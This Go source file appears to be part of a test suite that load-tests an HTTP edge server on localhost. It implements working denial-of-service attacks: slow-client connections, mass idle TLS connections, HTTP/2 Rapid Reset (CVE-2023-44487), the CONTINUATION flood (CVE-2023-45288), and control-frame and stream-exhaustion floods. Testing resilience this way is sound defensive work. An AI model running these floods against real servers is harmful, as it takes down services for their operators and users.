package attacks

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacks are the main functions of attacker processes. Each prints lines that say how its connections ended, and the line
// "measure" while the attack is at its peak.
var attacks = map[string]func(s *attacker){
	"slow clients":       (*attacker).slowClients,
	"10,000 connections": (*attacker).manyConnections,
	"rapid reset":        (*attacker).rapidReset,
	"CONTINUATION flood": (*attacker).continuationFlood,
	"control frames":     (*attacker).controlFrames,
	"open streams":       (*attacker).openStreams,
}

// attacker attacks the edge from an IP address that no other client has.
type attacker struct {
	target   string
	outputMu sync.Mutex
}

// attackerMain is the main function of an attacker process.
func attackerMain(name string) int {
	f := attacks[name]
	if f == nil {
		fmt.Fprintf(os.Stderr, "there is no attack %q\n", name)
		return 2
	}
	f(&attacker{target: os.Getenv("EDGE_TEST_TARGET")})
	return 0
}

func (s *attacker) printf(format string, args ...any) {
	s.outputMu.Lock()
	defer s.outputMu.Unlock()
	fmt.Printf(format+"\n", args...)
}

// dial opens a TCP connection.
func (s *attacker) dial() (net.Conn, error) {
	dialer := net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 66)}}
	return dialer.Dial("tcp", s.target)
}

// dialTLS opens a TLS connection for a protocol.
func (s *attacker) dialTLS(protocol string) (*tls.Conn, error) {
	raw, err := s.dial()
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, &tls.Config{ServerName: "accounting.localhost", InsecureSkipVerify: true, NextProtos: []string{protocol}})
	if err := conn.SetDeadline(time.Now().Add(20 * time.Second)); err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	if err := conn.Handshake(); err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	return conn, conn.SetDeadline(time.Time{})
}

// slowClients opens a thousand connections that never complete what they began: a body, headers or a TLS handshake.
func (s *attacker) slowClients() {
	var all sync.WaitGroup
	results := make([]string, 3)
	each := func(at int, what string, n int, open func() (net.Conn, error), first, drip string) {
		var closed, refused, served atomic.Int64
		var longest atomic.Int64
		var group sync.WaitGroup
		for range n {
			group.Go(func() {
				conn, err := open()
				if err != nil {
					refused.Add(1)
					return
				}
				defer conn.Close()
				began := time.Now()
				if _, err := io.WriteString(conn, first); err != nil {
					closed.Add(1)
					return
				}
				for time.Since(began) < 40*time.Second {
					if err := conn.SetReadDeadline(time.Now().Add(time.Second)); err != nil {
						break
					}
					answer := make([]byte, 512)
					n, err := conn.Read(answer)
					if n > 0 {
						served.Add(1)
					}
					if err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
						closed.Add(1)
						longest.Store(max(longest.Load(), int64(time.Since(began))))
						return
					}
					if drip != "" {
						if _, err := io.WriteString(conn, drip); err != nil {
							closed.Add(1)
							longest.Store(max(longest.Load(), int64(time.Since(began))))
							return
						}
					}
				}
			})
			time.Sleep(5 * time.Millisecond)
		}
		group.Wait()
		results[at] = fmt.Sprintf("%s: %d of %d closed by the edge, after %.0f s at most, %d of them with an answer", what, closed.Load(), n-int(refused.Load()), time.Duration(longest.Load()).Seconds(), served.Load())
	}
	h1 := func() (net.Conn, error) { return s.dialTLS("http/1.1") }
	all.Go(func() {
		each(1, "headers, a byte a second", 350, h1, "GET /api/slow HTTP/1.1\r\nHost: accounting.localhost\r\nX-Slow: ", "x")
	})
	all.Go(func() {
		each(0, "a body that stalls", 300, h1, "POST /api/slow HTTP/1.1\r\nHost: accounting.localhost\r\nContent-Length: 1000000\r\n\r\nabc", "")
	})
	all.Go(func() {
		each(2, "a TLS handshake, a byte a second", 350, s.dial, "\x16\x03\x01\x02\x00\x01", "\x00")
	})
	time.Sleep(15 * time.Second)
	s.printf("measure")
	all.Wait()
	for _, line := range results {
		s.printf("%s", line)
	}
}

// manyConnections opens ten thousand TLS connections and sends nothing on them.
func (s *attacker) manyConnections() {
	const n = 10_000
	conns := make(chan *tls.Conn, n)
	work := make(chan struct{}, n)
	var failed atomic.Int64
	var openers sync.WaitGroup
	began := time.Now()
	for range 16 {
		openers.Go(func() {
			for range work {
				conn, err := s.dialTLS("http/1.1")
				if err != nil {
					failed.Add(1)
					continue
				}
				conns <- conn
			}
		})
	}
	for range n {
		work <- struct{}{}
	}
	close(work)
	openers.Wait()
	close(conns)
	opened := len(conns)
	took := time.Since(began)
	s.printf("measure")
	closed := 0
	for conn := range conns {
		if err := conn.SetReadDeadline(began.Add(took + 40*time.Second)); err != nil {
			s.printf("%v", err)
		}
		if _, err := conn.Read(make([]byte, 1)); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
			closed++
		}
		conn.Close()
	}
	s.printf("%d opened in %.0f s, %d failed, %d closed by the edge because nothing came", opened, took.Seconds(), failed.Load(), closed)
}

// http2Conn is an HTTP/2 connection on which a test can send any frame.
type http2Conn struct {
	conn *tls.Conn
	*http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder

	closed chan struct{} // closed when the edge has closed the connection
	goaway http2.ErrCode
	resets atomic.Int64
	mu     sync.Mutex
	status map[string]int
}

func (s *attacker) dialHTTP2() (*http2Conn, error) {
	conn, err := s.dialTLS("h2")
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	p := &http2Conn{conn: conn, Framer: http2.NewFramer(conn, conn), closed: make(chan struct{}), status: make(map[string]int)}
	p.encoder = hpack.NewEncoder(&p.block)
	p.AllowIllegalWrites = true
	if err := p.WriteSettings(); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	go p.read()
	return p, nil
}

// read records what the edge sends, until the connection ends.
func (p *http2Conn) read() {
	defer close(p.closed)
	p.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		frame, err := p.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.GoAwayFrame:
			p.goaway = f.ErrCode
		case *http2.RSTStreamFrame:
			p.resets.Add(1)
		case *http2.MetaHeadersFrame:
			p.mu.Lock()
			p.status[f.PseudoValue("status")]++
			p.mu.Unlock()
		}
	}
}

// headers encodes fields, names and values in turn.
func (p *http2Conn) headers(fields ...string) []byte {
	p.block.Reset()
	for i := 0; i+1 < len(fields); i += 2 {
		_ = p.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // a buffer does not fail
	}
	return p.block.Bytes()
}

var plainGet = []string{":method", "GET", ":scheme", "https", ":authority", "accounting.localhost", ":path", "/api/flood"}

// flood calls step on n connections perSecond times a second in total, for the given time, and prints how the connections ended.
// The rate is limited because the edge shares the two CPUs of this machine with its attackers and with other users. What an
// attacker with more bandwidth sends has to be filtered before it reaches the edge (SECURITY.md).
func (s *attacker) flood(what string, n, perSecond int, duration time.Duration, step func(p *http2Conn, i int) error) {
	const beat = 10 * time.Millisecond
	if speed, err := strconv.ParseFloat(os.Getenv(speedEnv), 64); err == nil {
		perSecond = int(float64(perSecond) * speed)
	}
	perBeat := max(1, perSecond*int(beat/time.Millisecond)/1000/n)
	var ended, steps, resets, opened atomic.Int64
	var mu sync.Mutex
	goaways, statuses := make(map[string]int), make(map[string]int)
	var group sync.WaitGroup
	until := time.Now().Add(duration)
	for range n {
		group.Go(func() {
			for time.Now().Before(until) {
				p, err := s.dialHTTP2()
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				opened.Add(1)
				next := time.Now()
				for i := 0; err == nil && time.Now().Before(until); i++ {
					if i%perBeat == 0 {
						time.Sleep(time.Until(next))
						next = next.Add(beat)
					}
					if err = step(p, i); err == nil {
						steps.Add(1)
					}
				}
				if err != nil {
					ended.Add(1)
				}
				if err == nil {
					_ = p.conn.Close() // the edge has not closed it
				}
				<-p.closed
				p.conn.Close()
				resets.Add(p.resets.Load())
				mu.Lock()
				if err != nil {
					goaways[p.goaway.String()]++
				}
				for status, n := range p.status {
					statuses[status] += n
				}
				mu.Unlock()
			}
		})
	}
	time.Sleep(duration / 2)
	s.printf("measure")
	group.Wait()
	s.printf("%s: %d sent on %d connections, %d of which the edge closed %v; answers %v, %d streams reset", what, steps.Load(), opened.Load(), ended.Load(), goaways, statuses, resets.Load())
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func (s *attacker) rapidReset() {
	s.flood("HEADERS and RST_STREAM", 10, 5_000, 5*time.Second, func(p *http2Conn, i int) error {
		id := uint32(2*i + 1)
		if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.headers(plainGet...), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return p.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// continuationFlood sends headers that never end (CVE-2023-45288).
func (s *attacker) continuationFlood() {
	filler := bytes.Repeat([]byte{0x00, 0x01, 'x', 0x01, 'y'}, 3000) // fields x: y, not indexed
	s.flood("CONTINUATION of 15 kB", 10, 5_000, 5*time.Second, func(p *http2Conn, i int) error {
		if i == 0 {
			return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers(plainGet...)})
		}
		return p.WriteContinuation(1, false, filler)
	})
}

// controlFrames sends frames that are cheap to send and that the edge has to answer or to parse for nothing.
func (s *attacker) controlFrames() {
	s.flood("PING", 4, 50_000, 2500*time.Millisecond, func(p *http2Conn, i int) error { return p.WritePing(false, [8]byte{byte(i)}) })
	s.flood("SETTINGS", 4, 50_000, 2500*time.Millisecond, func(p *http2Conn, _ int) error {
		return p.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
	})
	s.flood("empty DATA", 4, 50_000, 2500*time.Millisecond, func(p *http2Conn, i int) error {
		if i == 0 {
			fields := append([]string{":method", "POST"}, plainGet[2:]...)
			return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers(fields...), EndHeaders: true})
		}
		return p.WriteData(1, false, nil)
	})
	s.flood("PRIORITY", 4, 50_000, 2500*time.Millisecond, func(p *http2Conn, i int) error {
		return p.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: byte(i)})
	})
}

// openStreams opens more streams than the edge allows, with bodies that never come, or with a flow-control window of 0.
func (s *attacker) openStreams() {
	s.flood("POST without its body", 10, 2_500, 4*time.Second, func(p *http2Conn, i int) error {
		fields := append([]string{":method", "POST"}, plainGet[2:]...)
		return p.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: p.headers(fields...), EndHeaders: true})
	})
	s.flood("answers that nobody takes", 10, 2_500, 4*time.Second, func(p *http2Conn, i int) error {
		if i == 0 {
			return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		return p.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i - 1), BlockFragment: p.headers(plainGet...), EndStream: true, EndHeaders: true})
	})
}

// joinLines joins the lines that attackers have printed.
func joinLines(lines []string) string { return strings.Join(lines, "\n") }
